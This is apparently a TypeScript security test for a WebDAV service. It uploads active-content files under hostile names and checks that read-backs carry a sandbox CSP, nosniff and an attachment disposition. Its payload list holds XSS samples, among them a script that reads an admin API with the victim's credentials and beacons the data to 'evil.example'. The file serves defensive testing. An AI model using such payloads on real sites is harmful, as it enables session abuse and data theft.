// Abuse with active content (issue 14, hole 4): hostile SVG, HTML, XHTML, XML and JavaScript uploads under
// hostile names, read back with GET and HEAD. Every answer under /dav/ must be a sandboxed document that the
// browser may not re-type, and every file a browser would run must come as an attachment.
import { rm } from 'node:fs/promises';
import { join } from 'node:path';
import { account, DavClient } from '../integration/webdav/dav-client.js';
import { basicAuth } from '../integration/webhooks/api.js';
import { abuseSuite } from './support/campaign.js';
import { hostileString, nastyString, percentEncoded, type Dice } from './support/hostile-input.js';
import type { RawRequest } from './support/raw-http.js';

const ACTIVE = ['svg', 'html', 'htm', 'xhtml', 'xht', 'shtml', 'xml', 'xsl', 'xslt', 'js', 'mjs', 'mht', 'mhtml', 'SVG', 'Html'];
const PAYLOADS = [
  '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/edu-api/admin/webhook-clients\')"><script>alert(document.domain)</script></svg>',
  '<!doctype html><script>fetch("/edu-api/admin/webhook-clients",{credentials:"include"}).then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script>',
  '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
  'fetch("/edu-api/admin/wiki-visibility").then(r=>r.json()).then(console.log)',
  '\uFEFF<svg/onload=alert(1)>',
  'GIF89a/*<svg onload=alert(1)>*/',
];
const scratchOf = (seed: number) => `_web-abuse-active-${seed}`;

abuseSuite({
  name: 'active-content uploads',
  addressed: (path, seed) => path === `schule/${scratchOf(seed)}` || path.startsWith(`schule/${scratchOf(seed)}/`),
  async prepare(service, env, seed) {
    await new DavClient(service, account(env, 'anna')).mkcol(scratchOf(seed));
    const scratch = `/dav/schule/${scratchOf(seed)}`;
    const users = ['anna', 'ben'].map((name) => basicAuth(name, env.users[name]!.password));
    return (d: Dice): RawRequest => {
      // A few names reused (so GETs find files), some hostile ones; the extension always one a browser would run.
      const stem = d.oneOf([
        () => `f${d.int(8)}`,
        () => percentEncoded(nastyString(d, 3)).slice(0, 200),
        () => percentEncoded(hostileString(d, 60)).slice(0, 200),
        () => d.pick(['%C3%9Cbung', 'a%20b', 'x%22y', 'a%3Bb', 'a%25b', 'index']),
      ]);
      const target = `${scratch}/${stem}.${d.pick(ACTIVE)}`;
      const method = d.pick(['PUT', 'GET', 'GET', 'HEAD', 'PROPFIND', 'OPTIONS']);
      const body = method === 'PUT' ? d.pick(PAYLOADS) : '';
      return { method, target, headers: [['authorization', d.pick(users)], ...(method === 'PROPFIND' ? [['depth', '0'] as [string, string]] : [])], body };
    };
  },
  check(req, answer) {
    if (answer.headers['content-security-policy'] !== "sandbox; default-src 'none'") return `no sandbox CSP (${answer.headers['content-security-policy']})`;
    if (answer.headers['x-content-type-options'] !== 'nosniff') return 'no X-Content-Type-Options: nosniff';
    const download = answer.headers['content-disposition'] ?? '';
    if ((req.method === 'GET' || req.method === 'HEAD') && answer.status === 200 && !/^attachment; filename="[\x20-\x21\x23-\x5b\x5d-\x7e]*"(; filename\*=UTF-8''[A-Za-z0-9!#$&+.^_`|~%-]+)?$/.test(download)) {
      return `active content without a safe attachment disposition: ${download}`;
    }
    return undefined;
  },
  async cleanup(env, seed) {
    await rm(join(env.smb.shares.find((s) => s.name === 'schule')!.path, scratchOf(seed)), { recursive: true, force: true });
  },
});
